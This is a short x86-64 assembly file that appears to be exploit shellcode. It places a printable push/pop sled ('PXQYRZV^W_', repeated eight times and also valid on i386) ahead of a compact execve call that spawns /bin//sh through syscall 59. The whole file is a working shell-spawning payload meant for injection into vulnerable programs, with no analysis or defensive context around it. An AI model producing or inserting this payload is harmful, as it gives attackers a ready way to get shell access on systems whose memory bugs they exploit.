; A printable sled (push/pop pairs: "PXQYRZV^W_", the same on i386) in
; front of the x86-64 execve.
BITS 64
%rep 8
    db "PXQYRZV^W_"
%endrep
    xor esi, esi
    push rsi
    mov rdi, 0x68732f2f6e69622f
    push rdi
    push rsp
    pop rdi
    xor edx, edx
    push 59
    pop rax
    syscall
